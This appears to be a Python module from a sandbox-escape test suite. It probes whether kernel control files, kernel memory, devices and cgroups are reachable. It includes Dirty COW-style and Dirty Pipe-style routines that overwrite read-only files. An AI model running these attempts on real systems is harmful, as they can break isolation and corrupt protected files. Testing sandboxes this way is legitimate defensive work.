"""Attempts on the kernel's own files, and by two of its old holes."""

from __future__ import annotations

import mmap
import os
from pathlib import Path

from campaigns.escapes.inside.looking import Attempt, Target, first_open


def core_pattern(_target: Target) -> str:
    return first_open(["/proc/sys/kernel/core_pattern"], os.O_WRONLY)


def kernel_settings(_target: Target) -> str:
    names = ("kernel/modprobe", "kernel/hostname", "vm/overcommit_memory", "fs/file-max")
    return first_open([f"/proc/sys/{name}" for name in names], os.O_WRONLY)


def system_request(_target: Target) -> str:
    return first_open(["/proc/sysrq-trigger"], os.O_WRONLY)


def kernel_memory(_target: Target) -> str:
    return first_open(["/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port"], os.O_RDONLY)


def kernel_log(_target: Target) -> str:
    return first_open(["/dev/kmsg", "/proc/kmsg"], os.O_RDONLY) or first_open(
        ["/dev/kmsg"], os.O_WRONLY
    )


def devices(_target: Target) -> str:
    """Open a disk, or a device that reaches into the kernel."""
    named = ["/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/loop-control", "/dev/vhost-net"]
    blocks = [str(path) for path in Path("/dev").iterdir() if path.is_block_device()]
    return first_open([*blocks, *named], os.O_RDONLY)


def files_of_sys(_target: Target) -> str:
    return first_open(["/sys/kernel/notes", "/sys/kernel/uevent_seqnum"], os.O_RDONLY)


def control_groups(_target: Target) -> str:
    groups = [path for top in ("/sys/fs/cgroup", "/cgroup") for path in Path(top).glob("**/")]
    names = [str(path / name) for path in groups[:50] for name in ("cgroup.procs", "tasks")]
    return first_open(names, os.O_WRONLY)


def copy_on_write(target: Target) -> str:
    """Write into a system file's page cache by way of ``/proc/self/mem``."""
    path = Path(target["readable"])
    before = path.read_bytes()[:64]
    private = {"flags": mmap.MAP_PRIVATE, "prot": mmap.PROT_READ}
    with path.open("rb") as file, mmap.mmap(file.fileno(), 0, **private):
        with Path("/proc/self/maps").open() as maps:
            begin = next(int(line.split("-")[0], 16) for line in maps if str(path) in line)
        with Path("/proc/self/mem").open("r+b", buffering=0) as memory:
            memory.seek(begin)
            memory.write(b"escaped!")
        return f"changed {path}" if path.read_bytes()[:64] != before else ""


def pipe_into_file(target: Target) -> str:
    """Splice a page of a read-only file into a pipe and write on in the page's remaining room."""
    path = Path(target["readable"])
    before = path.read_bytes()
    reader, writer = os.pipe()
    for _ in range(16):
        os.write(writer, b"x" * 4096)
    os.read(reader, 16 * 4096)
    with path.open("rb") as file:
        os.splice(file.fileno(), writer, 1, offset_src=0)
        os.write(writer, b"escaped!")
    return f"changed {path}" if path.read_bytes() != before else ""


ATTEMPTS: list[Attempt] = [
    core_pattern, kernel_settings, system_request, kernel_memory, kernel_log, devices,
    files_of_sys, control_groups, copy_on_write, pipe_into_file,
]  # fmt: skip
